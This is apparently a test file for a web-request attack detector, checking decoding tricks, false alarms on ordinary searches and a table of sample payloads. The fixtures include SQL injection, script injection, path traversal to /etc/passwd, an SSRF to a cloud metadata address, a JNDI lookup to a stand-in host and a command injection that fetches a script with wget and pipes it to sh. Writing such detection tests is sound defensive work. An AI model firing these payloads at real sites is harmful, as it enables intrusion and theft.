// biome-ignore-all lint/suspicious/noTemplateCurlyInString: look-ups and placeholders are what is tested.
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { detection } from '../../devices/model/detection.ts';
import { observation } from '../../devices/model/observation.ts';
import { registryDocument, registryOf } from '../../devices/model/registry.ts';
import { readAccessLine } from '../sources/web-access-line.ts';
import { isVisible } from './corpus.ts';
import { decode, trick } from './decode.ts';
import { type Family, THRESHOLD } from './findings.ts';
import { judgeRequest } from './judge.ts';
import { resolveLookups } from './languages.ts';
import { evasiveRewrite, harmlessRewrite } from './mutations.ts';
import { MAX_PARTS, takeApart } from './request-parts.ts';
import { benignTraffic, falseAlarmsOn } from './scoring.ts';
import { sqlTokens } from './sql-tokens.ts';
import { webAttack } from './web-attack.ts';

const judge = (target: string, over = {}) =>
  judgeRequest({ method: 'GET', target, userAgent: 'Mozilla/5.0', ...over });
const inQuery = (text: string) => `/search?q=${encodeURIComponent(text)}`;

describe('decoding undoes what servers undo', () => {
  test.each([
    ['%27', "'", 0],
    ['%2527', "'", trick.nested],
    ['%252e%252e', '..', trick.nested | trick.needless],
    ['%c0%af', '/', trick.overlong],
    ['%u0027', "'", trick.asciiAsUnicode],
    ['%uff07', "'", trick.asciiAsUnicode],
    ['＜ｂ＞', '<b>', 0],
    ['a%00b', 'ab', trick.nullByte],
    ['&lt;b&#62;&#x3c', '<b><', trick.entity],
    ['\\u003cb\\x3e', '<b>', trick.escape],
    ['50%', '50%', trick.malformed],
    ['%C3%BC', 'ü', 0],
    ['%FC', 'ü', trick.invalid],
  ])('%s', (raw, text, tricks) => {
    expect(decode(raw, false)).toEqual({ text, tricks });
  });

  test('what an honest client encodes comes back', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme-ascii' }), (text) => {
        fc.pre(!/[%&\\\0]/.test(text));
        expect(decode(encodeURIComponent(text), true).text).toBe(text);
      }),
    );
  });
});

test('SQL is read as behind a string that the request closes', () => {
  expect(
    sqlTokens("x' or 1=1 -- ", "'")
      .map(({ kind }) => kind)
      .join(''),
  ).toBe('s&nonc');
  expect(
    sqlTokens("men's", '')
      .map(({ kind }) => kind)
      .join(''),
  ).toBe('ws');
});

test('look-ups within look-ups are resolved from the inside out', () => {
  expect(resolveLookups('${${lower:j}${::-n}di:x}').text).toBe('${jndi:x}');
});

// Written for these tests from the grammar of each kind of attack.
const attacks: readonly [Family, string, string][] = [
  ['sql-injection', inQuery("42' OR 'x'='x"), 'parameter q'],
  ['sql-injection', inQuery('7) UNION ALL SELECT name, pin FROM staff'), 'parameter q'],
  ['sql-injection', inQuery("1'; WAITFOR DELAY '0:0:9'--"), 'parameter q'],
  ['cross-site-scripting', inQuery('"><img src=1 onerror=fetch(1)>'), 'parameter q'],
  ['cross-site-scripting', inQuery('java\tscript:alert(1)'), 'parameter q'],
  ['path-traversal', '/download?name=..%2f..%2f..%2fboot.cfg', 'parameter name'],
  ['path-traversal', '/img/..%c0%af..%c0%afx', 'path'],
  ['file-disclosure', '/show?f=/etc/passwd', 'parameter f'],
  ['remote-inclusion', '/index.php?page=http://evil.example/x.txt?', 'parameter page'],
  ['server-side-request', '/fetch?url=http://169.254.169.254/', 'parameter url'],
  ['command-injection', inQuery('a;wget http://x.example/m|sh'), 'parameter q'],
  ['command-injection', inQuery("$(c'a't /tmp/x)"), 'parameter q'],
  ['php-injection', inQuery('${@print(md5(7))}<?php system($_GET[1]);'), 'parameter q'],
  ['code-injection', inQuery("require('child_process').exec('id')"), 'parameter q'],
  ['template-injection', inQuery('{{7*7}}'), 'parameter q'],
  ['directory-query-injection', inQuery('*)(uid=*))(|(uid=*'), 'parameter q'],
  ['document-query-injection', '/login?user[$ne]=1', 'name of parameter user[$ne]'],
  ['xml-injection', inQuery('<!DOCTYPE a [<!ENTITY b SYSTEM "c">]>'), 'parameter q'],
  ['serialised-object', inQuery('O:8:"stdClass":0:{}'), 'parameter q'],
  ['lookup-injection', inQuery('${${lower:j}ndi:ldap://x.example/a}'), 'parameter q'],
  ['response-splitting', '/go?to=a%0d%0aSet-Cookie:%20a=b', 'parameter to'],
];

test.each(attacks)('%s is found in %s', (family, target, where) => {
  const { isAttack, findings } = judge(target);
  expect(isAttack).toBe(true);
  const finding = findings.find((one) => one.family === family && one.where === where);
  expect(finding?.what).toBeTruthy();
  expect(finding?.text.length).toBeLessThanOrEqual(162);
});

test('an attack in a header is found there', () => {
  for (const header of ['userAgent', 'referer'])
    expect(judge('/', { [header]: '${jndi:ldap://x.example/a}' }).isAttack).toBe(true);
  expect(judge('/', { userAgent: 'sqlmap/1.8#stable' }).family).toBe('scanner');
});

test.each([
  "men's shoes",
  "O'Reilly & sons",
  'select all from the union',
  "rock 'n' roll",
  'a < b and c > d',
  '50% off; today only',
  "l'huile d'olive",
  'cat tree',
  'Größe 42 "slim"',
  '1/2 inch - 3/4',
  'drop table lamp',
  'Black & Decker | Bosch',
  'how to use document.getElementById',
])('%s is a search', (text) => {
  expect(judge(inQuery(text)).isAttack).toBe(false);
});

test('honest traffic of another seed raises an alarm for at most one request in a hundred', () => {
  const { alarms, requests } = falseAlarmsOn(benignTraffic(99, 3_000));
  expect(requests).toBe(3_000);
  expect(alarms).toBeLessThanOrEqual(30);
});

test('written otherwise an attack stays one, and an honest request too', () => {
  let state = 1;
  const random = () => {
    state = (state * 48_271) % 2_147_483_647;
    return state / 2_147_483_647;
  };
  let changed = 0;
  for (let round = 0; round < 20; round++)
    for (const [, target] of attacks) {
      const other = evasiveRewrite({ method: 'GET', target }, random);
      if (other.target !== target) changed++;
      if (target.includes('?'))
        expect(judgeRequest(other).score, other.target).toBeGreaterThanOrEqual(THRESHOLD);
    }
  expect(changed).toBeGreaterThan(100);
  for (const request of benignTraffic(5, 500))
    if (!judgeRequest(request).isAttack)
      expect(judgeRequest(harmlessRewrite(request, random)).isAttack, request.target).toBe(false);
});

test('nothing hides behind many parameters, and the work is bounded', () => {
  const padding = Array.from({ length: 2_000 }, (_, index) => `a${index}=1`).join('&');
  const request = {
    method: 'GET',
    target: `/?${padding}&q=${encodeURIComponent('<script>alert(1)</script>')}`,
  };
  expect(takeApart(request).parts.length).toBeLessThanOrEqual(MAX_PARTS);
  expect(judgeRequest(request).isAttack).toBe(true);
});

test('any bytes give a verdict', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: 'binary', maxLength: 400 }),
      fc.string({ maxLength: 100 }),
      (target, userAgent) => {
        const { score, findings } = judgeRequest({
          method: 'GET',
          target,
          userAgent,
          referer: target,
          body: target,
        });
        expect(score).toBeGreaterThanOrEqual(0);
        for (const { text } of findings) expect(text.isWellFormed()).toBe(true);
      },
    ),
  );
  expect(judgeRequest({ target: '\u0016\u0003\u0001' }).isAttack).toBe(true);
});

test('whatever is sent, what is told of it fits a record', () => {
  const hostile = fc.constantFrom(
    "\n' or 1=1--",
    '\ud83d'.repeat(90),
    '\u202e<script>',
    '\u0000$(id)',
    '${jndi:',
    '&',
    '=',
    '%0a',
    '../',
  );
  fc.assert(
    fc.property(
      fc.array(fc.oneof(hostile, fc.string({ unit: 'binary', maxLength: 9 })), { maxLength: 24 }),
      (pieces) => {
        const one = observation.parse({
          id: 'a/b/1',
          kind: 'web.requested',
          site: 'online',
          asset: 'web-shop',
          source: 'web-access:shop',
          observedAt: 1,
          receivedAt: 1,
          clock: 'foreign',
          observables: { ip: '192.0.2.1', path: `/?${pieces.join('')}`.slice(0, 512), method: 'GET' },
          facts: { status: 200 },
        });
        const judged = webAttack.judge(
          { observations: [one] },
          { pauseMs: 1_000 },
          registryOf(registryDocument.parse({ sites: [], assets: [], identities: [] })),
        );
        for (const { anchor, count, tactic, facts, ...rest } of judged)
          expect(
            detection.safeParse({
              id: anchor,
              rule: 'web-attack',
              source: 'x',
              ...rest,
              facts,
              tactic,
              count,
            }).success,
          ).toBe(true);
      },
    ),
  );
});

test('a line of an access log is judged as it was logged', () => {
  const line = readAccessLine(
    '192.0.2.1 - - [23/Nov/2026:08:00:01 +0100] "GET /?q=1%20or%201=1 HTTP/1.1" 200 1 "-" "-"',
  );
  expect(typeof line === 'string' ? line : judge(line.request.split(' ')[1] ?? '').family).toBe(
    'sql-injection',
  );
});

test('an attack that a log does not hold does not count as visible', () => {
  const row = {
    id: 'a',
    family: 'f',
    method: 'POST',
    uri: '/post',
    headers: {},
    body: 'a=<script>',
    expect: 'attack' as const,
  };
  expect(isVisible(row)).toBe(false);
  expect(isVisible({ ...row, uri: '/post?a=%3Cscript%3E' })).toBe(true);
});
